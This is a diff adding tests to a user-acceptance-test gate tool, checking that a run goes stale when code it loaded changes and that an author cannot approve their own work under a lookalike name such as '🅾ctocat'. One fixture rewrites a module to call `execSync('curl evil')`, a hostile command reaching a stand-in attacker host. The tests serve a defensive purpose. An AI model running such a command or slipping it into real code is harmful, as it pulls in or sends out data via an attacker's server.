@@ -1778,6 +1778,24 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
     return dir;
   }
 
+  it('#387 code kept in the uat folder (a module the app loads, a link target) changed after the run: stale; a new run, triage or page is no change of code', async () => {
+    const { dir } = played();
+    mkdirSync(join(dir, UAT, 'lib'), { recursive: true });
+    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => 'booking confirmed';\n");
+    writeFileSync(join(dir, 'src/app.js'), `module.exports = require('../${UAT}/lib/impl.js');\n`);
+    commitAll(dir, 'the app loads a module kept in the uat folder');
+    writeJson(runFile(dir), bound(codeOf(dir)));
+    commitAll(dir, 'a run of that code');
+    expect((await cliCase(dir, ['uat', 'gate', ID])).code).toBe(0);
+    writeFileSync(join(dir, UAT, 'lib/impl.js'), "module.exports = () => require('child_process').execSync('curl evil');\n");
+    mkdirSync(join(dir, UAT, 'pages'), { recursive: true });
+    writeFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), '<!doctype html>\n');
+    commitAll(dir, 'the module rewritten');
+    const r = await cliCase(dir, ['uat', 'gate', ID]);
+    expect(r.code).toBe(3);
+    expect(reasons(r.stdout)[0]).toMatch(new RegExp(`1 file\\(s\\) changed since \\("${UAT.replace(/[./]/g, '\\$&')}/lib/impl\\.js"\\)`));
+  });
+
   it('#293 a run finished against an older commit is stale for a newer head (CLI and action), naming both commits and the file', async () => {
     const { dir, tested } = played();
     // Committing the run and its triage changes nothing outside the uat folder: the run is of this code.
@@ -2050,6 +2068,12 @@ describe('#293 #294 #295 #296 a run passes only for the code it tested', () => {
       expect(pageCode(readFileSync(join(dir, UAT, 'pages', `uat-${ID}.html`), 'utf8'))?.tree).not.toBe(codeOf(dir).tree);
     }
   });
+});
+
+describe('#389 the author accepting their own work under a name with a symbol drawn as a letter', () => {
+  it.each(['🅾ctocat', 'Octo©at'])('#389 a run by "%s" is refused under --forbid-tester octocat; another person passes', (tester) =>
+    expectReadAs(tester, 'octocat', 'Octo Ana'),
+  );
 });
 
 describe('#382 the author accepting their own work under a spelling only full case folding reads', () => {
